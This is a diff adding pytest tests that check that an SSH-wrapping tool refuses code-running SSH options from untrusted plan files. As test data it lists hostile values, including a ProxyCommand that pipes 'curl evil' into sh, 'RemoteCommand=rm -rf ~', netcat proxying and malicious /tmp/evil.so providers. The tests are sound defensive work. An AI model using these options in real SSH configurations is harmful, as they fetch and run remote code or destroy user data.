@@ -111,3 +111,49 @@ def test_the_tcp_mode_tunnel_binds_loopback_only_and_uses_no_master() -> None:
 def test_no_config_file_means_the_users_own() -> None:
     argv = a.command(a.Destination("gpu1"), ["true"], None)
     assert "-F" not in argv
+
+
+@pytest.mark.parametrize(
+    "option",
+    [
+        "ProxyCommand=sh -c 'curl evil | sh'",
+        "proxycommand=nc %h %p",
+        "LocalCommand=touch /tmp/x",
+        "PermitLocalCommand=yes",
+        "RemoteCommand=rm -rf ~",
+        "KnownHostsCommand=/bin/sh -c id",
+        "PKCS11Provider=/tmp/evil.so",
+        "SecurityKeyProvider=/tmp/evil.so",
+        "XAuthLocation=/tmp/evil",
+        "Match=exec touch /tmp/x",
+        "Include=/tmp/evil_config",
+        "ForwardAgent=yes",
+        "ForwardX11=yes",
+        "RemoteForward=8022 localhost:22",
+    ],
+)
+def test_a_plan_option_that_runs_code_is_refused_unless_the_plan_is_trusted(option: str) -> None:
+    key = option.partition("=")[0]
+    with pytest.raises(UsageError) as e:
+        a.check_plan_option(option, "plan.toml:9: [[box]] 1 ('gpu1')", trusted=False)
+    msg = str(e.value)
+    assert msg.startswith(f"plan.toml:9: [[box]] 1 ('gpu1'): field ssh_options: {key} ")
+    assert "--trust-plan" in msg
+    assert a.check_plan_option(option, "plan.toml:9", trusted=True) == option
+
+
+@pytest.mark.parametrize(
+    "option",
+    ["Port=2222", "ProxyJump=b", "PermitLocalCommand=no", "ForwardAgent=no", "ProxyCommand=none", "User=u"],
+)
+def test_a_plan_option_that_runs_nothing_needs_no_trust(option: str) -> None:
+    assert a.check_plan_option(option, "plan.toml:9", trusted=False) == option
+
+
+def test_a_bad_plan_option_says_where_it_is() -> None:
+    with pytest.raises(UsageError, match=r"^plan.toml:9: field ssh_options: .*sets BatchMode itself"):
+        a.check_plan_option("BatchMode=no", "plan.toml:9", trusted=True)
+
+
+def test_the_command_line_takes_what_the_user_typed() -> None:
+    assert a.check_option("ProxyCommand=ssh -W %h:%p jump") == ("ProxyCommand", "ssh -W %h:%p jump")
